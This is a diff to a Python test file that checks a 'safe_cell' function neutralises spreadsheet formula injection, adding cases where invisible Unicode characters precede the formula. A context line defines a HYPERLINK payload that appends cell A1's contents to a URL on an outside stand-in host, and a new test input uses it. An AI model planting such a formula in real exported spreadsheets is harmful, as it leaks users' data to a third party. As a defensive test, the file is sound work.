@@ -25,8 +25,9 @@ PAYLOAD = '=HYPERLINK("//e.tk/"&A1,"1@1")'  # the outside test's payload, with t
 
 @pytest.mark.parametrize(
     "text",
-    ["=1+1", "+30 694 555", "-1-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "\u3000=1", "\uff1d1+1", "-2+3"],
-)
+    ["=1+1", "+30 694 555", "-1-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "\u3000=1", "\uff1d1+1", "-2+3",
+     "\u200b=1", "\ufeff" + PAYLOAD, "\u200e\u200b @1", "\u2060+1"],  # invisible characters in front: still guarded
+)  # fmt: skip
 def test_formula_looking_text_is_written_as_text(text: str) -> None:
     assert safe_cell(text) == "'" + text
     out = io.StringIO()
